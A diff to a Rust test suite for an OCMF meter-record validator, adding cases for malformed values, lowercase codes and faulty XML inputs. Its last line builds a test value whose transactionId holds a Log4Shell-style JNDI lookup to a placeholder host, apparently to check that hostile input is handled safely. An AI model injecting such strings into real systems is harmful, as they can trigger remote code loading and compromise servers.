@@ -101,10 +101,25 @@ fn values(group: &mut Group) {
         .no_energy()
         .findings(&["VAL002"])
         .failed();
+    let wide = Payload::whole().at(1, "RV", "\"\u{ff11}\u{ff12}06.10\"");
+    session(group, "value-wide-digits", "A register value is written in digits of another script.", &wide)
+        .no_energy()
+        .findings(&["VAL002"])
+        .failed();
+    let small = Payload::whole().text_at(1, "TX", "e");
+    session(group, "reason-small", "The end is marked with a small letter, which is no code.", &small)
+        .no_energy()
+        .findings(&["FMT010", "TXN002"])
+        .failed();
+    let small = Payload::whole().text_at(1, "ST", "g");
+    session(group, "state-small", "The state of the meter is a small letter, which is no code.", &small)
+        .stated(ENERGY)
+        .findings(&["FMT010", "MTR003"])
+        .failed();
     let comma = Payload::whole().at(1, "RV", "\"1206,10\"");
-    session(group, "value-comma", "A register value is a text with a comma.", &comma).no_energy().findings(&["FMT014", "VAL002"]).failed();
+    session(group, "value-comma", "A register value is a text with a comma.", &comma).no_energy().findings(&["VAL002"]).failed();
     let word = Payload::whole().at(1, "RV", "null");
-    session(group, "value-null", "A register value is null.", &word).no_energy().findings(&["FMT011", "VAL002"]).failed();
+    session(group, "value-null", "A register value is null.", &word).no_energy().findings(&["VAL002"]).failed();
     let gone = |field: &str| Payload::whole().without_at(0, field).without_at(1, field);
     session(group, "value-missing", "No register value is there.", &gone("RV")).no_energy().findings(&["FMT015", "VAL002"]).failed();
     session(group, "time-missing", "No time is there.", &gone("TM")).stated(ENERGY).findings(&["FMT015", "TIM001", "TIM002"]).failed();
@@ -161,7 +176,7 @@ fn xml_documents(group: &mut Group) {
         "A file without any data.",
         "xml",
         "<values><value><signedData/><publicKey/></value></values>\n",
-        "value-payload",
+        "nothing-found",
     );
     error(group, "xml-no-value", "A file without any value.", "xml", "<values></values>\n", "nothing-found");
 
@@ -177,18 +192,16 @@ fn xml_documents(group: &mut Group) {
         "<values><value><signedData format=\"OCMF\" encoding=\"plain\">{record}</signedData><publicKey>{key}</publicKey><publicKey>{key}</publicKey></value></values>\n"
     );
     group
-        .case("xml-two-keys", "A value holds two keys.")
+        .case("xml-two-keys", "A value holds two keys: it is refused as a whole.")
         .flag("malformed")
         .input("xml", keys)
         .key(&METER)
-        .valid(1)
-        .proven(ENERGY)
         .errors(&["duplicate-element"])
         .unchecked();
     let sealed = "<values><value><encodedData format=\"OCMF\">QUJD</encodedData></value></values>\n";
     error(group, "xml-sealed", "The data is sealed.", "xml", sealed, "sealed");
 
-    let neighbours = [value().data("<!-- x -->"), value().attributes(" transactionId=\"1\"")];
+    let neighbours = [value().data("<!-- x -->").attributes(" transactionId=\"1\""), value().attributes(" transactionId=\"2\"")];
     group
         .case("xml-broken-neighbour", "A broken value stands beside a good one.")
         .flag("malformed")
@@ -196,7 +209,6 @@ fn xml_documents(group: &mut Group) {
         .key(&METER)
         .valid(1)
         .proven(ENERGY)
-        .findings(&["CON007"])
         .errors(&["split-text"])
         .unchecked();
     let hostile = Value::new(&Payload::whole().record()).attributes(" transactionId=\"${jndi:ldap://example.invalid/a}\"");
